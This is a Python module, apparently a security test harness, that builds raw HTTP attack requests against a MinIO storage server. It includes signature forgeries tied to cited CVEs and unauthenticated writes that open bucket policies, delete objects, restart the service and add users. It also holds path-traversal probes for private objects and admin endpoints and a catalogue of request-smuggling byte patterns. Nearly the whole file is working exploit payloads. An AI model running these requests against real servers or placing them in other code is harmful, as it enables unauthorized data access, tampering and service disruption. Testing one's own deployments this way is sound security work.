"""Attacks on a MinIO whose user names are known, as raw bytes, because no client would send some of them.

FORGERIES write in a user's name, signed with zeros or not at all: CVE-2026-41145 (a credential in the query) and
CVE-2026-40344 (an archive to extract), with their neighbours. WRITES are all other requests that change something,
LOOKS those that show something, and SMUGGLED what hides one request in another. UNSIGNED are headers to add to a write
that someone else has signed: CVE-2026-97731 (a copy) and CVE-2026-34204 (the marks of an encryption), with their
neighbours.
"""

import base64
import io
import socket
import tarfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from urllib.parse import quote

__all__ = [
    "DATA",
    "ENCRYPTED",
    "FORGERIES",
    "LOOKS",
    "SMUGGLED",
    "UNSIGNED",
    "WRITES",
    "Request",
    "Target",
    "answers",
    "status_of",
    "unsigned_put",
]

DATA = b"written by a stranger"
NO_SIGNATURE = "0" * 64
TIMEOUT_SECONDS = 20  # Reached only if no answer comes: normally the server closes the connection.


@dataclass(frozen=True)
class Request:
    """An HTTP request; ``headers`` say what they say, true or not."""

    method: str
    target: str
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""

    def __str__(self) -> str:
        return " ".join([self.method, self.target, *map(str, self.headers.items())])

    def raw(self, host: str) -> bytes:
        """Return the request as it goes over the wire, with a length unless it says another, on a connection's last."""
        length = {} if "Transfer-Encoding" in self.headers or not self.body else {"Content-Length": str(len(self.body))}
        headers = {"Host": host, "Connection": "close", **length, **self.headers}
        lines = [f"{self.method} {self.target} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return "\r\n".join([*lines, "", ""]).encode() + self.body


@dataclass(frozen=True)
class Target:
    """What to overwrite or make, in whose name; ``upload_id`` is one of a multipart upload to this key."""

    bucket: str
    key: str
    user: str
    upload_id: str

    @property
    def path(self) -> str:
        return f"/{self.bucket}/{quote(self.key)}"


def answers(port: int, raw: bytes) -> bytes:
    """Send the bytes, and return all that comes back until the server closes the connection."""
    received = b""
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT_SECONDS) as connection:
        try:
            connection.sendall(raw)
            while piece := connection.recv(65_536):
                received += piece
        except (ConnectionError, TimeoutError):
            return received
    return received


def status_of(answer: bytes) -> int:
    """Return the status of the first answer, or 0 where there is none."""
    final = answer.removeprefix(b"HTTP/1.1 100 Continue\r\n\r\n")
    return int(final[9:12]) if final.startswith(b"HTTP/1.") else 0


def _credential(target: Target) -> str:
    return f"{target.user}/{datetime.now(UTC):%Y%m%d}/us-east-1/s3/aws4_request"


def _by_query(target: Target) -> str:
    return f"X-Amz-Credential={quote(_credential(target), safe='')}"


def _by_presigned_query(target: Target) -> str:
    return (
        f"X-Amz-Algorithm=AWS4-HMAC-SHA256&{_by_query(target)}&X-Amz-Date={datetime.now(UTC):%Y%m%dT%H%M%SZ}"
        f"&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={NO_SIGNATURE}"
    )


def _by_header(target: Target, algorithm: str = "AWS4-HMAC-SHA256 ") -> dict[str, str]:
    signed = f"{algorithm}Credential={_credential(target)}, SignedHeaders=host;x-amz-date, Signature={NO_SIGNATURE}"
    return {"Authorization": signed, "X-Amz-Date": f"{datetime.now(UTC):%Y%m%dT%H%M%SZ}"}


def _framed(data: bytes) -> bytes:
    """Return data as chunks with a checksum in the trailer, as a client sends what it has not signed."""
    checksum = base64.b64encode(zlib.crc32(data).to_bytes(4, "big")).decode()
    return b"%x\r\n%s\r\n0\r\n" % (len(data), data) + f"x-amz-checksum-crc32:{checksum}\r\n\r\n".encode()


def _unsigned(data: bytes = DATA) -> dict[str, str]:
    return {
        "x-amz-content-sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        "x-amz-trailer": "x-amz-checksum-crc32",
        "x-amz-decoded-content-length": str(len(data)),
        "Content-Encoding": "aws-chunked",
    }


def unsigned_put(path: str, query: str, headers: Mapping[str, str]) -> Request:
    """Return a write whose body is not signed, whatever its head is."""
    return Request("PUT", f"{path}?{query}".rstrip("?"), {**_unsigned(), **headers}, _framed(DATA))


def _put(target: Target, query: str, headers: Mapping[str, str]) -> Request:
    return unsigned_put(target.path, query, headers)


def _part(target: Target, query: str, headers: Mapping[str, str]) -> Request:
    part = f"partNumber=1&uploadId={quote(target.upload_id, safe='')}"
    return unsigned_put(target.path, f"{part}&{query}".rstrip("&"), headers)


def _archive(target: Target, query: str, headers: Mapping[str, str], *, framed: bool) -> Request:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        member = tarfile.TarInfo(target.key)
        member.size = len(DATA)
        tar.addfile(member, io.BytesIO(DATA))
    data = archive.getvalue()
    snowball = {**_unsigned(data), "X-Amz-Meta-Snowball-Auto-Extract": "true", **headers}
    if not framed:
        del snowball["Content-Encoding"]
    path = f"/{target.bucket}/archive.tar?{query}".rstrip("?")
    return Request("PUT", path, snowball, _framed(data) if framed else data)


FORGERIES: dict[str, Callable[[Target], Request]] = {
    "an object, by query": lambda t: _put(t, _by_query(t), {}),
    "an object, by a whole presigned query": lambda t: _put(t, _by_presigned_query(t), {}),
    "an object, by header": lambda t: _put(t, "", _by_header(t)),
    "an object, by header without its algorithm": lambda t: _put(t, "", _by_header(t, "")),
    "an object, by both": lambda t: _put(t, _by_query(t), _by_header(t)),
    "an object, by query and a header of another kind": lambda t: _put(t, _by_query(t), {"Authorization": "Bearer x"}),
    "an object, by nobody": lambda t: _put(t, "", {}),
    "a part, by query": lambda t: _part(t, _by_query(t), {}),
    "a part, by a whole presigned query": lambda t: _part(t, _by_presigned_query(t), {}),
    "a part, by header": lambda t: _part(t, "", _by_header(t)),
    "a raw archive, by query": lambda t: _archive(t, _by_query(t), {}, framed=False),
    "a raw archive, by header": lambda t: _archive(t, "", _by_header(t), framed=False),
    "a raw archive, by header without its algorithm": lambda t: _archive(t, "", _by_header(t, ""), framed=False),
    "a chunked archive, by query": lambda t: _archive(t, _by_query(t), {}, framed=True),
    "a chunked archive, by header": lambda t: _archive(t, "", _by_header(t), framed=True),
}

# What MinIO's own replication says of an object that it has encrypted.
_REPLICATED = "X-Minio-Replication-Server-Side-Encryption"
ENCRYPTED = {
    f"{_REPLICATED}-Sealed-Key": base64.b64encode(bytes(64)).decode(),
    f"{_REPLICATED}-Seal-Algorithm": "DAREv2-HMAC-SHA256",
    f"{_REPLICATED}-Iv": base64.b64encode(bytes(32)).decode(),
}
UNSIGNED: dict[str, Mapping[str, str]] = {
    "a copy of a private object": {"x-amz-copy-source": "/{b}-originals/gpt-image-2/00"},
    "a copy, under a capital name": {"X-AMZ-COPY-SOURCE": "/{b}-originals/gpt-image-2/00"},
    "the marks of an encryption": ENCRYPTED,
    "the marks of parts": {
        "X-Minio-Replication-Encrypted-Multipart": "",
        "X-Minio-Replication-Actual-Object-Size": "1",
    },
    "another's date and ETag": {
        "X-Minio-Source-Replication-Request": "true",
        "X-Minio-Source-Mtime": "2020-01-01T00:00:00Z",
        "X-Minio-Source-Etag": "0" * 32,
    },
    "MinIO's metadata": {"x-minio-meta-payer": "a stranger"},
    "metadata": {"x-amz-meta-payer": "a stranger"},
    "an archive to extract": {"x-amz-meta-snowball-auto-extract": "true"},
    "tags": {"x-amz-tagging": "public=yes"},
    "the age of the signature": {"x-amz-signature-age": "0"},
    "an encryption": {"x-amz-server-side-encryption": "AES256"},
    "a storage class": {"x-amz-storage-class": "REDUCED_REDUNDANCY"},
    "a lock": {"x-amz-object-lock-legal-hold": "ON"},
}

_DELETE_ALL = b"<Delete><Object><Key>index.html</Key></Object></Delete>"
_OPEN = b'{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"*"}]}'
_FORM = (
    b'--x\r\nContent-Disposition: form-data; name="key"\r\n\r\nindex.html\r\n'
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\n' + DATA + b"\r\n--x--\r\n"
)
_MULTIPART = {"Content-Type": "multipart/form-data; boundary=x"}
_STS = b"Action=AssumeRole&Version=2011-06-15"

# By method and target, where {b} is the bucket; each is sent with nobody's keys.
WRITES: list[Request] = [
    Request("PUT", "/{b}/index.html", {}, DATA),
    Request("PUT", "/{b}/new.jpg", {"Expect": "100-continue"}, DATA),
    Request("PUT", "/{b}/new.jpg", {"Transfer-Encoding": "chunked"}, b"5\r\nhello\r\n0\r\n\r\n"),
    Request("PUT", "/{b}/new.jpg", {"X-Amz-Copy-Source": "/{b}-originals/gpt-image-2/00"}),
    Request("PUT", "/{b}-new", {}),
    *(Request("PUT", f"/{{b}}?{what}", {}, _OPEN) for what in ("policy", "acl", "cors", "versioning", "lifecycle")),
    *(Request("PUT", f"/{{b}}/index.html?{what}", {}, b"<Tagging/>") for what in ("tagging", "acl", "retention")),
    *(Request("DELETE", f"/{{b}}{what}") for what in ("", "/", "?policy", "/index.html", "/neon/a.jpg?versionId=null")),
    Request("POST", "/{b}", _MULTIPART, _FORM),
    Request("POST", "/{b}/", _MULTIPART, _FORM),
    Request("POST", "/{b}?delete", {"Content-MD5": "AAAAAAAAAAAAAAAAAAAAAA=="}, _DELETE_ALL),
    Request("POST", "/{b}/index.html?uploads"),
    Request("POST", "/{b}/index.html?uploadId=x", {}, b"<CompleteMultipartUpload/>"),
    Request("POST", "/{b}/index.html?select&select-type=2", {}, b"<SelectObjectContentRequest/>"),
    Request("POST", "/", {"Content-Type": "application/x-www-form-urlencoded"}, _STS),
    Request("POST", "/minio/admin/v3/service?action=restart"),
    Request("PUT", "/minio/admin/v3/add-user?accessKey=stranger", {}, DATA),
    Request("POST", "/minio/bootstrap/v1/verify"),
    Request("POST", "/api/v1/login", {"Content-Type": "application/json"}, b"{}"),
    *(
        Request(method, "/{b}/index.html", {"Destination": "/{b}/new.jpg"})
        for method in ("COPY", "MOVE", "LOCK", "UNLOCK")
    ),
    *(Request(method, "/{b}/", {"Depth": "1"}) for method in ("PROPFIND", "PROPPATCH", "MKCOL", "REPORT", "SEARCH")),
    *(Request(method, "/{b}/index.html", {}, DATA) for method in ("PATCH", "OPTIONS", "TRACE", "put", "PURGE", "GETS")),
    Request("CONNECT", "127.0.0.1:9000"),
    *(
        Request("POST", "/{b}/index.html", {name: "PUT"}, DATA)
        for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    ),
]

LOOKS: list[Request] = [
    *(
        Request("GET", f"/{{b}}{slash}?{what}")
        for slash in ("", "/")
        for what in (
            "list-type=2",
            "prefix=&delimiter=/",
            "versions",
            "uploads",
            "policy",
            "acl",
            "location",
            "events=x",
        )
    ),
    *(Request("GET", f"/{{b}}/index.html?{what}") for what in ("acl", "tagging", "attributes", "versionId=null")),
    *(
        Request("GET", path)
        for path in (
            "/",
            "/?events=s3:ObjectCreated:*",
            "/{b}-originals",
            "/{b}-originals/",
            "/{b}-originals/gpt-image-2/00",
            "/{b}/..%2f{b}-originals/gpt-image-2/00",
            "/{b}/../{b}-originals/gpt-image-2/00",
            "/{b}/%2e%2e/{b}-originals/gpt-image-2/00",
            "/{b}%2f..%2f{b}-originals%2fgpt-image-2%2f00",
            "/{b}/..;/{b}-originals/gpt-image-2/00",
            "/{b}/..\\{b}-originals\\gpt-image-2\\00",
            "/{b}/%252e%252e%252f{b}-originals/gpt-image-2/00",
            "//{b}-originals//gpt-image-2/00",
            "/./{b}-originals/gpt-image-2/00",
            "/{b}/index.html%0d%0aX-Injected:%20yes",
            "/{b}/%00",
            "http://127.0.0.1:9000/{b}-originals/gpt-image-2/00",
            "http://127.0.0.1:9000/minio/admin/v3/info",
            "/minio/admin/v3/info",
            "/{b}/../minio/admin/v3/list-users",
            "/minio%2fadmin%2fv3%2finfo",
            "/minio/health/live",
            "/minio/health/cluster",
            "/minio/v2/metrics/cluster",
            "/minio/metrics/v3",
            "/minio/grid/v1",
            "/minio/",
            "/login",
            "/api/v1/buckets",
            "/.minio.sys/config/iam/format.json",
            "/{b}/.minio.sys/format.json",
        )
    ),
    *(
        Request("GET", "/{b}/index.html", {name: "DELETE"})
        for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    ),
    Request("GET", "/{b}/index.html?_method=DELETE"),
    Request(
        "GET",
        "/{b}/index.html",
        {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings, close", "HTTP2-Settings": "AA"},
    ),
    Request("GET", "/{b}-originals/gpt-image-2/00", {"Host": "{b}-originals"}),
    Request("GET", "/gpt-image-2/00", {"Host": "{b}-originals.127.0.0.1", "X-Forwarded-Host": "{b}-originals"}),
    Request("GET", "/{b}/index.html", {"X-Original-URL": "/minio/admin/v3/info", "X-Rewrite-URL": "/minio/"}),
    Request("GET", "/{b}/index.html", {"X-Minio-Extract": "true", "Range": "bytes=0-"}),
]


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)


# By what could lead a parser astray. Each takes the start of an innocent request, without its empty line, and the
# request to hide in it.
SMUGGLED: dict[str, Callable[[bytes, bytes], bytes]] = {
    "a second request behind the first": lambda start, hidden: start + b"\r\n" + hidden,
    "a body": lambda start, hidden: start + b"Content-Length: %d\r\n\r\n" % len(hidden) + hidden,
    "two lengths": lambda start, hidden: (
        start + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden
    ),
    "two lengths, the other way round": lambda start, hidden: (
        start + b"Content-Length: %d\r\nContent-Length: 0\r\n\r\n" % len(hidden) + hidden
    ),
    "two lengths in one": lambda start, hidden: start + b"Content-Length: 0, %d\r\n\r\n" % len(hidden) + hidden,
    "a length with a sign": lambda start, hidden: start + b"Content-Length: +0\r\n\r\n" + hidden,
    "a length in base 16": lambda start, hidden: start + b"Content-Length: 0x0\r\n\r\n" + hidden,
    "a length and chunks": lambda start, hidden: (
        start + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden
    ),
    "chunks and a length": lambda start, hidden: (
        start + b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n" % len(hidden) + _chunk(hidden)
    ),
    "chunks": lambda start, hidden: start + b"Transfer-Encoding: chunked\r\n\r\n" + _chunk(hidden),
    "chunks under a name with a space": lambda start, hidden: (
        start + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden
    ),
    "chunks behind a tab": lambda start, hidden: start + b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + hidden,
    "chunks by another name": lambda start, hidden: start + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden,
    "chunks twice": lambda start, hidden: (
        start + b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden
    ),
    "chunks with an underscore": lambda start, hidden: start + b"Transfer_Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
    "a chunk with an extension": lambda start, hidden: (
        start + b"Transfer-Encoding: chunked\r\n\r\n0;a=\n\r\n\r\n" + hidden
    ),
    "a folded line": lambda start, hidden: start + b"X-A: b\r\n Content-Length: 0\r\n\r\n" + hidden,
    "bare line feeds": lambda start, hidden: start + b"X-A: b\nContent-Length: 0\n\n" + hidden,
    "a bare carriage return": lambda start, hidden: start + b"X-A: b\rContent-Length: 0\r\n\r\n" + hidden,
    "an upgrade": lambda start, hidden: start + b"Upgrade: websocket\r\n\r\n" + hidden,
    "the start of HTTP/2": lambda start, hidden: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hidden,
    "a line without a version": lambda start, hidden: b"GET /\r\n" + hidden,
}
